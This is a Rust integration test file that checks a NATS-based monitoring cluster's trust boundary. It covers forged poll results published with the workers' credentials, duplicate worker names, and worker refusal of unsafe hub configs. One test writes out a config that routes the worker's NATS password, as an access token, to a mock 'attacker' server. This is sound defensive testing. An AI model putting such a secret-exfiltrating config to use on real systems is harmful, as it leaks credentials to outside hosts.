//! The cluster's trust boundary against real parts on loopback (`nats-server -js`
//! with `contrib/cluster/nats-server.conf`'s two users, the hub and workers as
//! processes): what someone holding the workers' NATS credentials can and cannot do,
//! what a worker refuses to run, and two workers given one name. Skipped when
//! nats-server is missing (`make test` lists it at the end), unless
//! OVERHEAR_REQUIRE_NATS is set.

mod cluster_support;
mod daemon_support;
mod skip_support;
mod sources_support;

use std::time::{Duration, Instant};

use cluster_support::{nats_server_binary, Cluster, LEASE_TTL_SECS, SERIAL};

const HOSTS: usize = 4;
const ITEMS: usize = 24;

/// No host was polled twice within 8 s (the sources poll every 10 s).
fn assert_polite(c: &Cluster) {
    let gap = c.feeds.min_gap();
    assert!(
        gap >= Duration::from_secs(8),
        "a host was polled twice within {gap:?}"
    );
}

/// Waits until the hub has nothing pending and `at_least` has passed.
async fn hub_drained(c: &Cluster, at_least: Duration) {
    let start = Instant::now();
    loop {
        let m = c.hub_metrics().await;
        if start.elapsed() >= at_least && m.contains("overhear_cluster_pending_results 0") {
            return;
        }
        assert!(
            start.elapsed() < at_least + Duration::from_secs(60),
            "the hub did not drain the stream"
        );
        tokio::time::sleep(Duration::from_millis(500)).await;
    }
}

/// One forged poll result for `source`, as anyone holding the workers' NATS
/// credentials can publish it.
fn forged(source: &str, host: &str, items: serde_json::Value, cursor: Option<&str>) -> Vec<u8> {
    let mut v = serde_json::json!({
        "v": 1, "source": source, "host": host, "worker": "forger", "worker_id": "0000",
        "model": "forged-model", "published_ms": chrono::Utc::now().timestamp_millis(),
        "part": 0, "parts": 1, "items": items,
    });
    if let Some(c) = cursor {
        v["cursor"] = hex::encode(c).into();
    }
    serde_json::to_vec(&v).unwrap()
}

fn forged_item(id: &str, kind: &str, url: &str, text: &str) -> serde_json::Value {
    serde_json::json!({
        "post": {"id": id, "url": url, "text": text, "created_at": "2026-11-30T10:00:00Z",
                 "source": kind, "source_name": "feed0"},
        "brands": [{"brand": "Acme", "query": "default", "terms": []}],
        "verdict": {"label": "negative", "scores": [["negative", 0.99], ["positive", 0.01]]},
    })
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_forged_result_with_the_workers_credentials_changes_nothing_that_matters() {
    let _one = SERIAL.lock().await;
    let Some(bin) = nats_server_binary() else {
        return;
    };
    // the hub alone: no worker holds any lease
    let mut c = Cluster::start(bin, HOSTS, 0, ITEMS).await;
    c.start_hub().await;
    let nc = c.as_worker().await;
    let js = async_nats::jetstream::new(nc);

    // NATS refuses the workers' user a write to the config and the cursors
    let config = js.get_key_value("overhear-config").await.unwrap();
    let wrote = config
        .put("config", "[[source]]\nkind = \"hackernews\"\n".into())
        .await;
    assert!(wrote.is_err(), "a worker rewrote the hub's config");
    let text = config.get("config").await.unwrap().unwrap();
    assert!(String::from_utf8_lossy(&text).contains("feed0"));
    let cursors = js.get_key_value("overhear-cursors").await.unwrap();
    let key = format!("h{}", hex::encode("feed0"));
    assert!(
        cursors.put(&key, "{}".into()).await.is_err(),
        "a worker wrote a cursor"
    );

    // forged results: a brand on a post that does not mention it, a post of another
    // kind than its source's, a source the hub does not have, and a cursor from a
    // worker that holds no lease
    let host = c.feed_host(0);
    let subject = format!("overhear.results.h{}", hex::encode(&host));
    let items = serde_json::json!([
        forged_item(
            "rss:forged-1",
            "rss",
            "http://forged.test/no-brand",
            "The weather today is awful and I hate this terrible cold rain. Never again."
        ),
        forged_item(
            "mastodon:10.0.0.5:8443/x:1",
            "mastodon",
            "http://forged.test/other-kind",
            "Acme support is awful, they refused my refund. Never again."
        ),
    ]);
    let forged_cursor = r#"{"validators":{},"seen":{"ids":["http://feeds.test/h0/item-0"]}}"#;
    for payload in [
        forged("feed0", &host, items, Some(forged_cursor)),
        forged(
            "evil",
            &host,
            serde_json::json!([forged_item(
                "rss:forged-3",
                "rss",
                "http://forged.test/evil-source",
                "Acme support is awful, they refused my refund. Never again."
            )]),
            None,
        ),
    ] {
        js.publish(subject.clone(), payload.into())
            .await
            .unwrap()
            .await
            .unwrap();
    }
    hub_drained(&c, Duration::from_secs(12)).await;
    tokio::time::sleep(Duration::from_secs(8)).await; // the outbox's turn

    let stored = c.stored_links();
    let forged: Vec<_> = stored
        .iter()
        .filter(|l| l.contains("forged.test"))
        .collect();
    assert!(forged.is_empty(), "forged posts were stored: {forged:?}");
    let mails = c.mails.lock().unwrap().clone();
    assert!(
        !mails.iter().any(|m| m.data.contains("forged.test")),
        "a forged mention alerted"
    );
    if let Some(v) = cursors.get(&key).await.unwrap() {
        let v: serde_json::Value = serde_json::from_slice(&v).unwrap();
        assert_ne!(
            v["cursor"].as_str(),
            Some(hex::encode(forged_cursor).as_str()),
            "a forged cursor was committed"
        );
    }
    let m = c.hub_metrics().await;
    assert!(
        !m.contains("source=\"evil\"") && !m.contains("worker=\"forger\""),
        "forged names became metric labels:\n{m}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn two_workers_with_one_name_never_both_hold_a_host() {
    let _one = SERIAL.lock().await;
    let Some(bin) = nats_server_binary() else {
        return;
    };
    let mut c = Cluster::start(bin, HOSTS, 2, ITEMS).await;
    let second = c.workers[1].1.clone();
    let text = std::fs::read_to_string(&second).unwrap();
    std::fs::write(
        &second,
        text.replace("worker_name = \"w2\"", "worker_name = \"w1\""),
    )
    .unwrap();
    c.start_hub().await;
    c.start_worker(0).await;
    c.start_worker(1).await;
    let start = Instant::now();
    let mut last = (Vec::new(), Vec::new());
    while start.elapsed() < Duration::from_secs(5 * LEASE_TTL_SECS) {
        let hosts = |h: Option<(u16, serde_json::Value)>| -> Vec<String> {
            h.and_then(|(_, v)| serde_json::from_value(v["hosts"].clone()).ok())
                .unwrap_or_default()
        };
        let a = hosts(c.worker_health(0).await);
        let b = hosts(c.worker_health(1).await);
        let both: Vec<_> = a.iter().filter(|h| b.contains(h)).collect();
        assert!(both.is_empty(), "both workers named w1 hold {both:?}");
        last = (a, b);
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    assert_eq!(
        last.0.len() + last.1.len(),
        HOSTS,
        "every host held, once: {last:?}"
    );
    assert_polite(&c);
}

/// Waits until worker 0's `/healthz` says it refused the hub's config for `what`.
async fn refused(c: &Cluster, what: &str) -> (u16, serde_json::Value) {
    let start = Instant::now();
    loop {
        if let Some((status, v)) = c.worker_health(0).await {
            if v["config_refused"].as_str().unwrap_or("").contains(what) {
                return (status, v);
            }
        }
        assert!(
            start.elapsed() < Duration::from_secs(60),
            "the worker did not refuse the config for {what}: {:?}",
            c.worker_health(0).await
        );
        tokio::time::sleep(Duration::from_millis(300)).await;
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_worker_refuses_a_config_with_secrets_or_allow_private_it_does_not_allow() {
    let _one = SERIAL.lock().await;
    let Some(bin) = nats_server_binary() else {
        return;
    };
    let mut c = Cluster::start(bin, HOSTS, 1, ITEMS).await;
    // the hub's config sends the worker's NATS password to an instance of its choice
    let attacker = wiremock::MockServer::start().await;
    wiremock::Mock::given(wiremock::matchers::any())
        .respond_with(wiremock::ResponseTemplate::new(200).set_body_string("[]"))
        .mount(&attacker)
        .await;
    let original = std::fs::read_to_string(&c.hub_config).unwrap();
    let stolen = format!(
        "[[source]]\nkind = \"mastodon\"\nname = \"steal\"\ninstance = \"{}\"\ntags = [\"acme\"]\naccess_token_env = \"NATS_WORKER_PASSWORD\"\nevery = \"10s\"\n\n",
        attacker.uri()
    );
    let at = original.find("[[source]]").unwrap();
    let with = |extra: &str| format!("{}{extra}{}", &original[..at], &original[at..]);
    std::fs::write(&c.hub_config, with(&stolen)).unwrap();
    c.start_hub().await;
    c.spawn_worker(0);
    let (status, v) = refused(&c, "NATS_WORKER_PASSWORD").await;
    assert_eq!(status, 503, "{v}");
    assert!(v["config_refused"].as_str().unwrap().contains("\"steal\""));
    assert!(!v.to_string().contains(cluster_support::WORKER_PASSWORD));
    tokio::time::sleep(Duration::from_secs(2 * LEASE_TTL_SECS)).await;
    let got = attacker.received_requests().await.unwrap();
    assert!(
        got.is_empty(),
        "the worker polled the forged source: {got:?}"
    );
    assert!(c.owners().await.is_empty(), "the worker took leases");
    let log = c.log("w1");
    assert!(log.contains("access_token_env") && !log.contains(cluster_support::WORKER_PASSWORD));

    // allow_private on a source, which this worker's own file does not allow
    let private = original.replacen(
        "every = \"10s\"",
        "every = \"10s\"\nallow_private = true",
        1,
    );
    std::fs::write(&c.hub_config, private).unwrap();
    daemon_support::signal(c.hub.as_ref().unwrap(), "HUP");
    refused(&c, "allow_private").await;
    assert!(c.owners().await.is_empty(), "the worker took leases");
}
